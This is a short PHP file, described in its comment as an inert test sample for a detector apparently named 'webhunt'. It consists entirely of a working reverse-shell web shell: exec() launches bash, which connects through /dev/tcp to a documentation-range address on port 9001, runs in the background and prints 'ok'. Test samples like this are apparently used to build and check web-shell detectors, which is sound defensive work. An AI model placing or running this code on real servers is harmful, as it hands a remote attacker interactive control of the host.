<?php
// Inert test sample (webhunt): a one-shot reverse shell through bash's /dev/tcp, the operator's
// address kept in variables (a documentation range).
$h = "198.51.100.23";
$p = 9001;
exec("/bin/bash -c 'bash -i >& /dev/tcp/$h/$p 0>&1' > /dev/null 2>&1 &");
echo "ok";
